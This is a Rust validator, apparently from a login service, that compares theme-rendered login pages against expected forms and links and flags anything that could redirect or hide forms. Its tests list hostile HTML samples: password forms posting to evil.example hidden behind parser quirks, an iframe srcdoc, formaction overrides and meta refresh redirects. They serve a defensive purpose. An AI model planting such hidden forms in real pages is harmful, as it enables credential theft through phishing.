//! The forms and links of a page that a theme has drawn, held against those of the service: all are there, and none
//! leads anywhere else.

use std::collections::BTreeSet;

use super::finding::Finding;
use super::markup::{DOCTYPE, Tag, strays, tags};

/// What forms are made of.
const PARTS: [&str; 5] = ["button", "form", "input", "select", "textarea"];
/// The attributes of these that are held against those of the service.
const COMPARED: [&str; 6] = ["action", "enctype", "method", "name", "type", "value"];
/// What stands within a `select`; of anything else, browsers make different things.
const CHOICES: [&str; 3] = ["hr", "optgroup", "option"];
/// Elements with a page within the page. A content security policy stops those that are fetched and no others: a frame
/// brings its page along in `srcdoc`.
const FRAMES: [&str; 5] = ["embed", "frame", "frameset", "iframe", "object"];
/// What stands within a `svg`. Everything else either ends it, or is no form there though it be called one, or brings
/// links, scripts, styles or pages along. All but `desc` and `title` hold elements of a `svg` and no others.
const DRAWN: [&str; 58] = [
    "animate",
    "animatemotion",
    "animatetransform",
    "circle",
    "clippath",
    "defs",
    "desc",
    "ellipse",
    "feblend",
    "fecolormatrix",
    "fecomponenttransfer",
    "fecomposite",
    "feconvolvematrix",
    "fediffuselighting",
    "fedisplacementmap",
    "fedistantlight",
    "fedropshadow",
    "feflood",
    "fefunca",
    "fefuncb",
    "fefuncg",
    "fefuncr",
    "fegaussianblur",
    "femerge",
    "femergenode",
    "femorphology",
    "feoffset",
    "fepointlight",
    "fespecularlighting",
    "fespotlight",
    "fetile",
    "feturbulence",
    "filter",
    "g",
    "image",
    "line",
    "lineargradient",
    "marker",
    "mask",
    "metadata",
    "mpath",
    "path",
    "pattern",
    "polygon",
    "polyline",
    "radialgradient",
    "rect",
    "set",
    "stop",
    "svg",
    "switch",
    "symbol",
    "text",
    "textpath",
    "title",
    "tspan",
    "use",
    "view",
];

/// A form, as far as the service depends on it.
#[derive(Debug, Default, PartialEq, Eq)]
struct Form<'a> {
    action: &'a str,
    /// Whether it is sent as the service reads forms: by POST, and encoded as a query is.
    is_readable: bool,
    /// Whether it has a button that sends it.
    is_sendable: bool,
    /// Names and values that are sent unseen.
    hidden: BTreeSet<(&'a str, &'a str)>,
    /// Names of the fields that are filled in.
    fields: BTreeSet<&'a str>,
    /// Names and values of the buttons that decide something.
    buttons: BTreeSet<(&'a str, &'a str)>,
}

/// The forms of a page, with those of their parts that are sent. A part that says which form it belongs to is none.
fn forms<'a>(tags: &'a [Tag<'_>]) -> Vec<Form<'a>> {
    let mut forms: Vec<Form<'a>> = Vec::new();
    let mut is_open = false;
    for tag in tags {
        let text = |name: &str| tag.attribute(name).unwrap_or_default();
        let has = |name: &str| tag.attribute(name).is_some();
        match (tag.name.as_ref(), tag.is_end) {
            ("form", true) => is_open = false,
            ("form", false) => {
                is_open = true;
                let is_query =
                    |encoding: &str| encoding.eq_ignore_ascii_case("application/x-www-form-urlencoded");
                forms.push(Form {
                    action: text("action"),
                    is_readable: text("method").eq_ignore_ascii_case("post")
                        && tag.attribute("enctype").is_none_or(is_query),
                    ..Form::default()
                });
            }
            ("input" | "button" | "select" | "textarea", false)
                if is_open && !has("disabled") && !has("form") =>
            {
                if let Some(form) = forms.last_mut() {
                    form.add(tag, text("name"), text("value"));
                }
            }
            _ => {}
        }
    }
    forms
}

impl<'a> Form<'a> {
    fn add(&mut self, tag: &Tag<'_>, name: &'a str, value: &'a str) {
        let kind = tag.attribute("type").unwrap_or_default().to_ascii_lowercase();
        let is_named = !name.is_empty();
        let commands = tag.attribute("command").or(tag.attribute("commandfor"));
        match (tag.name.as_ref(), kind.as_str()) {
            ("button" | "input", "button" | "reset") => {}
            ("button", kind) if kind != "submit" && commands.is_some() => {}
            ("input", "image") => self.is_sendable = true,
            ("button", _) | ("input", "submit") => {
                self.is_sendable = true;
                if is_named {
                    self.buttons.insert((name, value));
                }
            }
            ("input", "hidden") if is_named => drop(self.hidden.insert((name, value))),
            _ if is_named => drop(self.fields.insert(name)),
            _ => {}
        }
    }

    /// Whether it sends what another one does, and perhaps more.
    fn does_for(&self, other: &Self) -> bool {
        self.action == other.action
            && self.is_readable == other.is_readable
            && self.is_sendable >= other.is_sendable
            && other.hidden.is_subset(&self.hidden)
            && other.fields.is_subset(&self.fields)
            && other.buttons.is_subset(&self.buttons)
    }

    /// What it is made of, for who has to write it.
    fn parts(&self) -> String {
        let hidden = self
            .hidden
            .iter()
            .map(|(name, _)| format!("the hidden field {name}"));
        let fields = self.fields.iter().map(|name| format!("the field {name}"));
        let buttons = self.buttons.iter();
        let buttons = buttons.map(|(name, value)| format!("the button {name}={value}"));
        let any = self
            .buttons
            .is_empty()
            .then(|| "a button that sends it".to_owned());
        let parts: Vec<String> = hidden.chain(fields).chain(buttons).chain(any).collect();
        parts.join(", ")
    }
}

/// Where links lead within the service.
fn ways<'a>(tags: &'a [Tag<'_>]) -> BTreeSet<&'a str> {
    let links = tags.iter().filter(|tag| tag.is("a"));
    links
        .filter_map(|tag| tag.attribute("href"))
        .filter(|href| href.starts_with('/'))
        .collect()
}

/// What is missing from the forms and links of `page` for those of `wanted` to work, and where else it leads.
pub fn compare(place: &str, page: &str, wanted: &str) -> Vec<Finding> {
    let (wanted, found) = (tags(wanted), tags(page));
    let mut messages = doubts(page, &found);
    messages.extend(differences(&found, &wanted));
    let findings = messages.into_iter();
    findings.map(|message| Finding::refused(place, message)).collect()
}

/// What a browser could read otherwise than it is read here, so that it would show a form that is not seen here or have
/// none where one is seen. None of it is needed, so no page has any.
fn doubts(page: &str, tags: &[Tag<'_>]) -> Vec<String> {
    let strays = strays(page).map(|stray| {
        let begins = |start: &str| {
            let found = stray.split_at_checked(start.len());
            found.is_some_and(|(found, _)| found.eq_ignore_ascii_case(start))
        };
        if begins("<!doctype") {
            return format!(
                "a doctype stands at the beginning, behind nothing but comments: write {DOCTYPE}"
            );
        }
        let start = stray.chars().take(20).collect::<String>();
        format!("{start:?} is neither a tag nor a comment: write &lt; where a < is meant")
    });
    let mut doubts: Vec<String> = strays.collect();
    let (mut is_in_form, mut is_in_select, mut is_in_button) = (false, false, false);
    let (mut is_between_cells, mut drawings) = (false, 0_usize);
    for tag in tags {
        let name = tag.name.as_ref();
        let mut refuse = |message: String| doubts.push(message);
        if !tag.is_whole {
            refuse(format!("the page ends within the tag {name}"));
        }
        if tag.source.contains('<') {
            refuse(format!("a < within the tag {name}: write &lt;"));
        }
        if tag.raw.contains('<') {
            refuse(format!(
                "the content of {name} holds a <, from which some browsers may read a form"
            ));
        }
        if FRAMES.contains(&name) && !tag.is_end {
            refuse(format!("{name}: a page within the page could ask for anything"));
        }
        if drawings > 0 && !DRAWN.contains(&name) {
            refuse(format!("{name} is not among the elements allowed within svg"));
        }
        if is_in_select && !CHOICES.contains(&name) && !(tag.is_end && name == "select") {
            refuse(format!("{name} within select, which holds options only"));
        }
        let unclear = tag.attributes.iter().filter(|attribute| {
            attribute.is_unclear && PARTS.contains(&name) && COMPARED.contains(&attribute.name.as_ref())
        });
        for attribute in unclear {
            refuse(format!(
                "{name} {}={:?}: write &amp; where an & is meant",
                attribute.name, attribute.value
            ));
        }
        match (name, tag.is_end) {
            ("form", false) if is_in_form => {
                refuse("a form within a form: the inner one is none".to_owned());
            }
            ("form", false) if is_between_cells => {
                refuse("a form between the cells of a table: what follows is not in it".to_owned());
            }
            ("form", is_end) => is_in_form = !is_end,
            ("button", false) if is_in_button => {
                refuse("a button within a button: it ends the outer one, and what that is in".to_owned());
            }
            ("button", is_end) => is_in_button = !is_end,
            ("table", is_end) => is_between_cells = !is_end,
            ("caption" | "td" | "th", is_end) => is_between_cells = is_end,
            ("col" | "colgroup" | "tbody" | "tfoot" | "thead" | "tr", _) => is_between_cells = true,
            ("select", is_end) => is_in_select = !is_end,
            ("svg", true) => drawings = drawings.saturating_sub(1),
            ("svg", false) if !tag.closes_itself => drawings = drawings.saturating_add(1),
            ("fieldset", false) if tag.attribute("disabled").is_some() => {
                refuse("fieldset disabled: nobody can send what is in it".to_owned());
            }
            _ => {}
        }
    }
    doubts
}

fn differences(page: &[Tag<'_>], wanted: &[Tag<'_>]) -> Vec<String> {
    let (found, wanted_forms) = (forms(page), forms(wanted));
    let mut messages = Vec::new();
    let mut refuse = |message: String| messages.push(message);
    for form in &found {
        let mut same = wanted_forms
            .iter()
            .filter(|wanted| wanted.action == form.action)
            .peekable();
        if same.peek().is_none() {
            refuse(format!(
                "a form leads to {:?}: forms of this page lead to {{{{ action }}}} and nowhere else",
                form.action
            ));
        } else if same.all(|wanted| wanted.is_readable != form.is_readable) {
            refuse(
                "a form is sent in another way: write it with method=\"post\" and without enctype".to_owned(),
            );
        }
    }
    for tag in page {
        for other_way in ["formaction", "formmethod", "formenctype"] {
            if tag.attribute(other_way).is_some() {
                refuse(format!(
                    "{other_way}: forms of this page lead to {{{{ action }}}}, as they say themselves, and nowhere else"
                ));
            }
        }
        if tag.attribute("http-equiv").is_some() {
            refuse(
                "http-equiv: pages say nothing in place of headers, which could lead people away".to_owned(),
            );
        }
    }
    for href in ways(wanted).difference(&ways(page)) {
        refuse(format!(
            "a link to {href:?} is missing: print its slot, or write it with that href"
        ));
    }
    for form in &wanted_forms {
        if !found.iter().any(|other| other.does_for(form)) {
            refuse(format!(
                "a form is missing or incomplete: print its slot, or write a form with method=\"post\", \
                 action=\"{{{{ action }}}}\" and {}",
                form.parts()
            ));
        }
    }
    messages
}

#[cfg(test)]
mod tests {
    use super::*;

    const WANTED: &str = r#"<form method="post" action="/login"><input type="hidden" name="csrf" value="b1"><input
        name="username"><button name="decision" value="allow">Go</button></form>"#;

    #[test]
    fn a_form_may_be_written_by_hand_in_any_style() {
        let by_hand = "<FORM class=x action=&#x2f;login METHOD='POST'><p><!-- <form action=/evil> -->\
            <input value=\"b1\" type=HIDDEN name='csrf'><textarea name=username></textarea>\
            <input type=submit name=decision value=allow></FORM>";
        assert_eq!(compare("login.html", by_hand, WANTED), []);
        assert_eq!(compare("login.html", WANTED, WANTED), []);
    }

    #[test]
    fn a_form_without_what_the_service_needs_is_refused() {
        for broken in [
            "",
            r#"<form method="post" action="/login"><input name="username"><button name="decision" value="allow"></form>"#,
            r#"<form method="post" action="/login"></form><input type="hidden" name="csrf" value="b1">"#,
        ] {
            let findings = compare("login.html", broken, WANTED);
            assert_eq!(findings.len(), 1, "{broken}");
            assert!(
                findings[0]
                    .message
                    .contains("the hidden field csrf, the field username")
            );
        }
    }

    #[test]
    fn a_form_that_cannot_be_sent_is_refused() {
        let plain = WANTED.replace(" name=\"decision\" value=\"allow\"", "");
        assert_eq!(compare("login.html", &plain, &plain), []);
        let image = plain.replace("<button>Go</button>", "<input type=image alt=Go>");
        assert_eq!(compare("login.html", &image, &plain), []);
        for wanted in [WANTED, &plain] {
            let around = |element: &str, end: &str| format!("<{element}>{wanted}</{end}>");
            for broken in [
                wanted.replace("<button", "<b").replace("</button", "</b"),
                wanted.replace("<button", "<button type=button"),
                wanted.replace("<button", "<button type=reset"),
                wanted.replace("<button", "<button disabled"),
                wanted.replace("<button", "<button form=other"),
                wanted.replace("<button", "<button command=close"),
                wanted.replace("<button", "<button commandfor=other"),
                wanted.replace("<button", "<button type=&#98utton"),
                wanted.replace("<button", "<button type=butto&#+110;"),
                wanted.replace("<button", "<button formmethod=get"),
                wanted.replace("<button", "<button formenctype=text/plain"),
                wanted.replace("name=\"username\"", "name=username disabled"),
                wanted.replace("name=\"username\"", "name=username form=other"),
                wanted.replace("method=\"post\"", "method=get"),
                wanted.replace("method=\"post\"", "method=post enctype=multipart/form-data"),
                format!("{wanted}<form action=/login><input name=password></form>"),
                around("!x", "x"),
                around("?x", "x"),
                around("p><!DOCTYPE html", "x"),
                around("select", "select"),
                around("svg", "svg"),
                around("svg><desc><div></svg></div", "desc></svg"),
                around("svg><desc", "desc></svg"),
                around("svg><desc/", "svg"),
                around("svg><foreignObject", "foreignObject></svg"),
                around("math", "math"),
                around("form method=post action=/login", "form"),
                around("table><tr><td><fieldset disabled></td></tr", "table"),
                around("table", "table"),
                around("table><tr><td></tr", "table"),
                around("button disabled", "button"),
                format!("<head></head><frameset>{wanted}"),
                format!(
                    "<template><form method=post action=/login></template>{}",
                    wanted.replace("<form", "<p")
                ),
                wanted
                    .replace("</form>", "<button name=decision value=allow")
                    .replacen("<button", "<i", 1),
                around("template", "template"),
                around("noscript", "noscript"),
                around("fieldset disabled", "fieldset"),
            ] {
                assert!(!compare("login.html", &broken, wanted).is_empty(), "{broken}");
            }
            for sound in [
                around("fieldset", "fieldset"),
                around("table><tr><th></th><td", "td></tr></table"),
                format!("<fieldset></fieldset><template> </template>{wanted}"),
                wanted.replace(
                    "method=\"post\"",
                    "method=post enctype=application/x-www-form-urlencoded",
                ),
                format!("{wanted}<noscript>Scripts are off.</noscript>"),
                format!("<svg><g><path d=x /></g><svg/><title>x</title></svg>{wanted}"),
                format!(
                    "<svg><desc>x</desc><marker/><text><textPath href=#a>x</textPath></text></svg>{wanted}"
                ),
                format!(
                    "<svg><filter><feDropShadow/><feMerge><feMergeNode/></feMerge></filter></svg>{wanted}"
                ),
                format!("{wanted}<select><optgroup><option>a<hr></optgroup></select>"),
            ] {
                assert_eq!(compare("login.html", &sound, wanted), [], "{sound}");
            }
        }
    }

    #[test]
    fn no_way_onward_is_missing() {
        let wanted =
            format!("{WANTED}<a href=\"/federation/x/start?t=1&amp;u=2\">x</a><a href=\"#top\">y</a>");
        assert_eq!(compare("login.html", &wanted, &wanted), []);
        let findings = compare("login.html", WANTED, &wanted);
        assert_eq!(findings.len(), 1);
        assert!(findings[0].message.contains("/federation/x/start?t=1&u=2"));
    }

    #[test]
    fn no_form_leads_elsewhere() {
        let evil = format!("{WANTED}<form action=\"https://evil.example\"><input name=password></form>");
        let findings = compare("login.html", &evil, WANTED);
        assert!(findings[0].message.contains("https://evil.example"));
        for hidden in [
            "<!-->FORM<!-- -->",
            "<!--->FORM<!-- -->",
            "<!-- x --!>FORM<!-- -->",
            "<svg><style><div>FORM</style></svg>",
            "<math><title>FORM</title></math>",
            "<title></titles><!-- </title>FORM<!-- -->",
            "<xmp><!-- </xmp>FORM<!-- -->",
            "<iframe><a title=\"</iframe>FORM\"></a>",
            "<noscript><!-- </noscript>FORM<!-- --></noscript>",
            "<noscript><textarea></noscript><!-- </textarea>FORM<!-- -->",
            "<svg><![CDATA[ <!-- ]]>FORM<!-- --></svg>",
            "<template shadowrootmode=open>FORM</template>",
            "<!x <a title=\">FORM\"></a>",
            "</ <a title=\">FORM\"></a>",
            "</><a title=\">FORM\"></a>",
            "<? <a title=\">FORM\"></a>",
            "<!DOCTYPE a <a title=\">FORM\"></a>",
            "<!DOCTYPE html <a title=\">FORM\"></a>",
            "<![if x <a title=\">FORM\"></a>",
            "<a title='<form>'>FORM</a>",
            "<svg><style/>FORM</style></svg>",
            "<select><option>FORM</select>",
            "<iframe srcdoc='&lt;form action=https://evil.example>'></iframe>",
            "<object data='data:text/html,evil'></object>",
        ] {
            let evil = hidden.replace(
                "FORM",
                "<form method=post action=https://evil.example><input name=password>",
            );
            let findings = compare("login.html", &format!("{evil}{WANTED}"), WANTED);
            assert_ne!(findings, [], "{hidden}");
        }
        let harmless = format!("<!-- <form action=x> --><title>a</title><style>a{{}}</style>{WANTED}");
        assert!(compare("login.html", &harmless, WANTED).is_empty());
        let evil = WANTED.replace("<button", "<button formaction=https://evil.example");
        assert!(
            compare("login.html", &evil, WANTED)[0]
                .message
                .starts_with("formaction")
        );
    }

    #[test]
    fn a_page_that_leads_people_away_by_itself_is_not_used() {
        for name in ["Refresh", "refr&#101sh", "refresh&#0;", "set-cookie"] {
            let page = format!("<meta http-equiv=\"{name}\" content=\"0; url=https://evil.example\">");
            let found = compare("login.html", &page, "");
            assert_eq!(found.len(), 1, "{found:?}");
        }
    }

    #[test]
    fn what_is_wrong_is_called_by_its_name() {
        for (page, said) in [
            (
                "<svg><feImage/></svg>",
                "feimage is not among the elements allowed within svg",
            ),
            (
                "<p><!DOCTYPE html>",
                "a doctype stands at the beginning, behind nothing but comments: write <!DOCTYPE html>",
            ),
            (
                "<!doctype html PUBLIC 'x'>",
                "a doctype stands at the beginning, behind nothing but comments: write <!DOCTYPE html>",
            ),
            (
                "<!-- <!x --><!DOCTYPE html>",
                "\"<!x --><!DOCTYPE htm\" is neither a tag nor a comment: write &lt; where a < is meant",
            ),
        ] {
            let said = [Finding::refused("login.html", said)];
            assert_eq!(compare("login.html", page, ""), said);
        }
    }

    #[test]
    fn no_text_makes_the_comparison_fail() {
        for text in [
            "<",
            "<form",
            "<input name=",
            "</form></fieldset></template>",
            "<noscript>",
            "</é>",
            "<title></é",
        ] {
            compare("x", text, WANTED);
            compare("x", WANTED, text);
        }
    }
}
